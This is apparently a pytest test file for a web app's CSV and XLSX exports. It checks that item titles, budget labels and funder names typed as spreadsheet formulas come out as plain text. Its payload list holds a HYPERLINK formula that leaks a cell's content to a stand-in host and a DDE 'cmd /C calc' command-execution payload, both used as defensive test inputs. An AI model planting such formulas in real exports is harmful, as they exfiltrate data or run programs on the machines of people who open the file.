"""Spreadsheet formula injection: a title or a budget label typed as a formula reaches a partner's spreadsheet as
the text it is, never as a live formula (OWASP's CSV injection), and amounts and coordinates stay numbers."""
import csv
import io
import json
from datetime import date

import pytest
from openpyxl import load_workbook

from app.extensions import db
from app.models import Action, BudgetLine, Dossier

FORMULAS = ['=HYPERLINK("http://127.0.0.1:9/?leak="&A1;"Cliquez")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]
POINT = {"type": "Point", "coordinates": [2.8901, 50.4417]}


def starts_a_formula(cell):
    """What a spreadsheet would evaluate: a cell beginning with one of OWASP's trigger characters."""
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def formulas_everywhere(client, csrf, demo_map):
    """Items titled with formulas, typed through the item form, and an action whose budget lines are formulas."""
    category = demo_map.categories[0]
    for title in FORMULAS:
        response = client.post(f"/cartes/{demo_map.id}/elements", data={
            "csrf_token": csrf, "category": category.id, "title": title, "description": title,
            "geometry": json.dumps(POINT)})
        assert response.status_code == 303, response.get_data(as_text=True)[:300]  # saved, then its page
    action = Action.add(demo_map, kind="jardin_collectif", title=FORMULAS[0], starts_on=date(2027, 3, 1),
                        ends_on=date(2027, 9, 30))
    action.budget_lines = [BudgetLine(position=index, label=label, amount_cents=12550, kind="equipement",
                                      funder="etat") for index, label in enumerate(FORMULAS)]
    # A co-funder named with a formula: its name is text, its amount a SUM of its lines' cells.
    action.budget_lines[0].funder, action.budget_lines[0].cofunder = "cofinanceur", FORMULAS[0]
    action.budget_lines[0].cofunder_status = "acquis"
    db.session.add(Dossier(map=demo_map, holder_type="centre_social", holder_name=FORMULAS[0], territory="call"))
    db.session.commit()
    return demo_map


def test_the_items_csv_has_no_live_formula_and_keeps_the_text(client, formulas_everywhere):
    map_ = formulas_everywhere
    categories = [category.id for category in map_.categories]
    response = client.get(f"/cartes/{map_.id}/export/telecharger", query_string={"format": "csv",
                                                                                 "categorie": categories})
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    header, body = rows[0], rows[1:]
    cells = [cell for row in body for name, cell in zip(header, row, strict=True) if name not in ("lat", "lon")]
    assert not [cell for cell in cells if starts_a_formula(cell)]
    titles = {row[header.index("titre")] for row in body}
    assert {"'" + formula.strip() for formula in FORMULAS} <= titles  # the text as typed, behind the apostrophe
    lats = [row[header.index("lat")] for row in body if row[header.index("lat")]]
    assert lats and all(float(lat) for lat in lats)  # coordinates are still plain numbers


def test_a_negative_longitude_stays_a_number_in_the_csv(client, csrf, empty_map):
    category = empty_map.categories[0]
    client.post(f"/cartes/{empty_map.id}/elements", data={
        "csrf_token": csrf, "category": category.id, "title": "Ouest", "description": "",
        "geometry": json.dumps({"type": "Point", "coordinates": [-1.5536, 47.2184]})})
    response = client.get(f"/cartes/{empty_map.id}/export/telecharger",
                          query_string={"format": "csv", "categorie": [category.id]})
    rows = list(csv.DictReader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert rows[0]["lon"] == "-1.5536000"


def test_the_financing_csv_has_no_live_formula_and_amounts_stay_numbers(client, formulas_everywhere):
    response = client.get(f"/cartes/{formulas_everywhere.id}/dossier/plan-de-financement.csv")
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if starts_a_formula(cell)]
    lines = [row for row in rows[1:] if len(row) == 9 and row[0]]
    assert {row[2] for row in lines} == {"'" + formula for formula in FORMULAS}
    assert {row[6] for row in lines} == {"125,50"}


def test_the_financing_xlsx_holds_text_not_formulas_and_amounts_as_numbers(client, formulas_everywhere):
    response = client.get(f"/cartes/{formulas_everywhere.id}/dossier/plan-de-financement.xlsx")
    sheet = load_workbook(io.BytesIO(response.data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    lines = [row for row in sheet.iter_rows(min_row=3) if isinstance(row[0].value, int)]
    # The only formulas are the plan's own totals, under the lines, over cell references and Voyette's labels.
    formulas = [cell for cell in cells if cell.data_type == "f"]
    assert formulas and all(cell.column_letter in "GH" and cell.row > lines[-1][0].row for cell in formulas)
    assert not [cell.value for cell in formulas if any(typed in cell.value for typed in ("HYPERLINK", "cmd", "@"))]
    assert [row[2].value for row in lines] == FORMULAS  # a text cell shows exactly what was typed
    assert lines[0][7].value == FORMULAS[0] and lines[0][7].data_type == "s"
    named = [row for row in sheet.iter_rows() if row[3].value == "acquis"]  # the co-funders' table, as text
    assert [(row[2].value, row[2].data_type) for row in named] == [(FORMULAS[0], "s")]
    amounts = [row[6] for row in lines]
    assert all(cell.data_type == "n" and float(cell.value) == 125.5 for cell in amounts)
    assert sheet["A1"].data_type == "s" and sheet["A1"].value.endswith(FORMULAS[0])
